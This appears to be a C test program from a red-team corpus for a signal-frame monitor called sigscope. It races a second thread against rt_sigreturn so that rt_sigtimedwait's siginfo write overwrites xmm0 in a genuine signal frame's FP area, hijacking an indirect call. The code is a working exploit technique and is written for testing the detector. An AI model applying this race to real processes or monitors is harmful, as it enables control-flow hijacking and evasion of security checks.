/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_fp_toctou (red team round 19): srop_toctou's race aimed at the frame's FP area instead of
 * its general registers. A second thread rewrites xmm0 in a genuine frame while its thread is
 * inside rt_sigreturn: after a tracer compared the area at the syscall entry, before the kernel
 * restores the FP state from it. The interrupted code calls through xmm0 after the signal.
 *
 * The window and the write are srop_toctou's (read it first): the racer holds siglock with a
 * long queue of pending real-time signals in rt_sigtimedwait, which the sigreturning thread
 * waits for inside the syscall (set_current_blocked comes before restore_sigcontext and the FP
 * restore), and rt_sigtimedwait's siginfo buffer points 16 bytes before xmm0 in the area, so
 * the queued payload's bytes 16..23 land on xmm0's low half: &mal_pwned. The 128 bytes written
 * also cover st7's upper half and xmm1..xmm6, which the interrupted code does not use.
 *
 * Why: a check of the FP area at the entry alone leaves the window between its read and the
 * kernel's (the general registers are compared again at the exit, the FP area was not).
 *
 * Expected from sigscope (hooks full): toctou (high) and tampered_context (high, changed
 * fpstate), from the exit's second look at the area. A write landing before the entry's read
 * is seen there: tampered_context (high) alone; tests/corpus/run_malicious.py retries those.
 * Modes enter and light judge the area as read at entry only.
 */
#include "mal.h"

#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/resource.h>
#include <time.h>
#include <ucontext.h>

/* Where rt_sigtimedwait's siginfo goes: 16 bytes before xmm0 (offset 160 of the FXSAVE area),
 * so that the payload's bytes 16..23 are xmm0's low half. The kernel writes 48 bytes of siginfo
 * (the first 4 are si_signo) and zeroes the next 80. */
#define XMM0_AT	     160
#define INFO_AT	     (XMM0_AT - 16)
#define INFO_WRITTEN 48

static char handler_stack[65536] __attribute__((aligned(64)));
static _Atomic(ucontext_t *) frame_uc;
static atomic_uint seq;
static atomic_uint ack;
static atomic_int stop;
static atomic_int racer_ready;
static volatile unsigned long round_no;
static int cpus[2] = {-1, -1};
static pid_t pid;
static int sig_filler, sig_payload;
static unsigned long fillers;
static siginfo_t payload;
static int have_payload;

static void handler(int sig, siginfo_t *info, void *ucv)
{
	(void)sig;
	(void)info;
	atomic_store_explicit(&frame_uc, (ucontext_t *)ucv, memory_order_relaxed);
	atomic_fetch_add_explicit(&seq, 1, memory_order_release);
}

static void pin(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	if (sched_setaffinity(0, sizeof(set), &set))
		mal_say("cannot pin to CPU %d: %s (racing unpinned)", cpu, strerror(errno));
}

/* Queue a real-time signal to the calling thread, with this payload after si_signo. */
static int queue_self(pid_t tid, int sig, const siginfo_t *pl)
{
	siginfo_t si;

	memset(&si, 0, sizeof(si));
	if (pl)
		memcpy(&si, pl, sizeof(si));
	si.si_signo = sig;
	if (!pl)
		si.si_code = SI_QUEUE;
	return (int)syscall(SYS_rt_tgsigqueueinfo, pid, tid, sig, &si);
}

/* The payload, from a genuine frame's area: its bytes as they are, but xmm0 = &mal_pwned. */
static void make_payload(const ucontext_t *uc)
{
	const unsigned char *fp = (const unsigned char *)uc->uc_mcontext.fpregs;
	unsigned char *p = (unsigned char *)&payload;
	uint64_t target = (uint64_t)mal_pwned;

	memset(&payload, 0, sizeof(payload));
	memcpy(p, fp + INFO_AT, INFO_WRITTEN);
	memcpy(p + XMM0_AT - INFO_AT, &target, sizeof(target));
	/* si_code (bytes 8..11) is st7's: any is fine when queued to oneself. */
}

static void *racer(void *arg)
{
	struct timespec zero = {0, 0};
	pid_t tid = (pid_t)syscall(SYS_gettid);
	unsigned last = 0;
	sigset_t set, wait_set;

	(void)arg;
	pin(cpus[1]);
	sigemptyset(&set);
	sigaddset(&set, sig_filler);
	sigaddset(&set, sig_payload);
	pthread_sigmask(SIG_BLOCK, &set, NULL);
	for (unsigned long i = 0; i < fillers; i++) {
		if (queue_self(tid, sig_filler, NULL)) {
			mal_say("could queue only %lu filler signals: %s", i, strerror(errno));
			fillers = i;
			break;
		}
	}
	sigemptyset(&wait_set);
	sigaddset(&wait_set, sig_payload);
	atomic_store(&racer_ready, 1);
	for (;;) {
		ucontext_t *uc;
		unsigned s;

		while ((s = atomic_load_explicit(&seq, memory_order_acquire)) == last) {
			if (atomic_load_explicit(&stop, memory_order_relaxed))
				return NULL;
		}
		last = s;
		uc = atomic_load_explicit(&frame_uc, memory_order_relaxed);
		if (have_payload) {
			/* Holds siglock for the walk, then writes the payload over the frame. */
			if (syscall(SYS_rt_sigtimedwait, &wait_set,
				    (char *)uc->uc_mcontext.fpregs + INFO_AT, &zero,
				    8) != sig_payload)
				mal_die(MAL_EXIT_SETUP, "rt_sigtimedwait");
		} else {
			make_payload(uc); /* first round: learn the frame, write nothing */
			have_payload = 1;
		}
		if (queue_self(tid, sig_payload, &payload))
			mal_die(MAL_EXIT_SETUP, "rt_tgsigqueueinfo");
		atomic_store_explicit(&ack, s, memory_order_release);
	}
}

static __attribute__((noinline)) void benign(void)
{
	__asm__ volatile("");
}

static void report_win(void)
{
	mal_say("race won at round %lu", round_no + 1);
}

static unsigned long env_ul(const char *name, unsigned long dflt)
{
	const char *v = getenv(name);

	return v && *v ? strtoul(v, NULL, 0) : dflt;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(void)
{
	unsigned long max_rounds = env_ul("TOCTOU_ROUNDS", 100000);
	double seconds = (double)env_ul("TOCTOU_SECONDS", 20), t_start;
	stack_t ss = {.ss_sp = handler_stack, .ss_size = sizeof(handler_stack), .ss_flags = 0};
	struct sigaction sa;
	struct rlimit rl;
	cpu_set_t allowed;
	pthread_t th;
	pid_t tid;
	int n = 0;

	mal_init("srop_fp_toctou", (unsigned)seconds + 15);
	/* Two CPUs of the allowed set: the main thread on one, the racer on the other. */
	if (sched_getaffinity(0, sizeof(allowed), &allowed) == 0) {
		for (int c = 0; c < CPU_SETSIZE && n < 2; c++)
			if (CPU_ISSET(c, &allowed))
				cpus[n++] = c;
	}
	if (n < 2) {
		mal_say(
		    "skip: fewer than 2 CPUs, the racer cannot run while the other thread waits");
		return MAL_EXIT_SKIP;
	}
	pin(cpus[0]);
	sig_filler = SIGRTMIN + 2; /* glibc keeps SIGRTMIN's first ones for itself */
	sig_payload = SIGRTMIN + 3;
	fillers = env_ul("TOCTOU_FILLERS", 2000);
	/* The queue counts against RLIMIT_SIGPENDING: stay well inside it. */
	if (getrlimit(RLIMIT_SIGPENDING, &rl) == 0 && rl.rlim_cur != RLIM_INFINITY &&
	    fillers + 64 > rl.rlim_cur)
		fillers = rl.rlim_cur > 128 ? rl.rlim_cur - 128 : 0;
	mal_on_success = report_win;
	/* The frames go on this altstack (it replaces the crash handler's: same role). */
	if (sigaltstack(&ss, NULL))
		mal_die(MAL_EXIT_SETUP, "sigaltstack");
	memset(&sa, 0, sizeof(sa));
	sa.sa_sigaction = handler;
	sa.sa_flags = SA_SIGINFO | SA_ONSTACK;
	sigemptyset(&sa.sa_mask);
	if (sigaction(SIGUSR1, &sa, NULL))
		mal_die(MAL_EXIT_SETUP, "sigaction");
	pid = getpid();
	tid = (pid_t)syscall(SYS_gettid);
	if (pthread_create(&th, NULL, racer, NULL))
		mal_die(MAL_EXIT_SETUP, "pthread_create");
	while (!atomic_load(&racer_ready))
		;
	mal_say("racing on CPUs %d and %d, %lu signals queued to hold siglock", cpus[0], cpus[1],
		fillers);
	t_start = now_s();
	for (round_no = 0; round_no < max_rounds; round_no++) {
		unsigned s;

		uint64_t through;

		/* tgkill(self, SIGUSR1), delivered on its way out with xmm0 holding benign; then
		 * the call through xmm0 (mal_pwned once the race is won). */
		__asm__ volatile("movq %[fn], %%xmm0\n\t"
				 "mov %[nr], %%eax\n\t"
				 "syscall\n\t"
				 "movq %%xmm0, %[through]\n\t"
				 : [through] "=r"(through)
				 : [fn] "r"((uint64_t)(uintptr_t)benign), [nr] "i"(SYS_tgkill),
				   "D"((long)pid), "S"((long)tid), "d"((long)SIGUSR1)
				 : "rax", "rcx", "r11", "xmm0", "memory");
		((void (*)(void))(uintptr_t)through)();
		/* Still here: the kernel restored the original context, the race was lost. */
		s = atomic_load_explicit(&seq, memory_order_acquire);
		while (atomic_load_explicit(&ack, memory_order_acquire) != s)
			;
		if ((round_no & 63) == 63 && now_s() - t_start > seconds)
			break;
	}
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	mal_say("race never won: %lu rounds in %.1f s", round_no, now_s() - t_start);
	return MAL_EXIT_NOTHING;
}
